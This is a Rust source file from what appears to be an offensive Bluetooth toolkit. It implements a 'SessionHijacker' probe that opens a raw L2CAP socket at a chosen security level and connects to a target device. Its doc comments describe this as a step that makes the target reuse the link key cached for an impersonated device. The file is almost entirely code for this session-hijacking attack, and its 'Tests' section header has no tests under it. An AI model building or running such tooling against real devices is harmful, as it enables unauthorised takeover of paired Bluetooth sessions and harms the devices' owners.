//! SessionHijacker: one throw-away raw L2CAP connect that makes the target's
//! stack reuse the link key it cached for the impersonated device.
//!
//! The probe never fails its caller. Whatever happens, the status is logged,
//! the socket is closed exactly once and a [`HijackOutcome`] is returned.

use std::io;

use async_trait::async_trait;
use bluer::Address;
use breaktooth_core::config::SecurityLevel;
use tracing::{info, info_span, warn, Instrument};

/// PSM used for the probe connection. Zero is reserved and never bound.
pub const PSM_PROBE: u16 = 0;

/// Result of one probe.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HijackOutcome {
    /// The connect call returned success.
    Connected,
    /// The socket could not be opened, configured or connected.
    ///
    /// `status` is the OS error number, or `-1` when none was reported.
    Failed { status: i32 },
}

impl HijackOutcome {
    /// Status code in the `connect_ex` convention: 0 on success.
    pub fn status(self) -> i32 {
        match self {
            HijackOutcome::Connected => 0,
            HijackOutcome::Failed { status } => status,
        }
    }
}

/// A raw L2CAP socket used once and then closed.
#[async_trait]
pub trait ProbeSocket: Send {
    fn set_security(&mut self, level: SecurityLevel) -> io::Result<()>;

    async fn connect(&mut self, target: Address, psm: u16) -> io::Result<()>;

    /// Releases the socket. Consumes it, so it can run only once.
    fn close(self);
}

/// Produces fresh probe sockets.
pub trait ProbeSocketFactory: Send + Sync {
    type Socket: ProbeSocket;

    fn open(&self) -> io::Result<Self::Socket>;
}

/// Runs the link-key reuse probe.
pub struct SessionHijacker<F> {
    sockets: F,
}

fn os_status(e: &io::Error) -> i32 {
    e.raw_os_error().unwrap_or(-1)
}

impl<F: ProbeSocketFactory> SessionHijacker<F> {
    pub fn new(sockets: F) -> Self {
        Self { sockets }
    }

    /// Opens a socket at `level`, connects it to `target` on [`PSM_PROBE`],
    /// logs the status and closes the socket.
    pub async fn probe(&self, target: Address, level: SecurityLevel) -> HijackOutcome {
        let span = info_span!("session_hijacker", %target, ?level);
        async {
            let mut socket = match self.sockets.open() {
                Ok(socket) => socket,
                Err(e) => {
                    warn!("could not open probe socket: {e}");
                    return HijackOutcome::Failed {
                        status: os_status(&e),
                    };
                }
            };

            let result = match socket.set_security(level) {
                Ok(()) => socket.connect(target, PSM_PROBE).await,
                Err(e) => {
                    warn!("could not set socket security: {e}");
                    Err(e)
                }
            };
            socket.close();

            let outcome = match result {
                Ok(()) => HijackOutcome::Connected,
                Err(e) => {
                    warn!("probe connect failed: {e}");
                    HijackOutcome::Failed {
                        status: os_status(&e),
                    }
                }
            };
            info!(status = outcome.status(), "link-key probe finished");
            outcome
        }
        .instrument(span)
        .await
    }
}

// ── Tests ─────────────────────────────────────────────────────────────────────
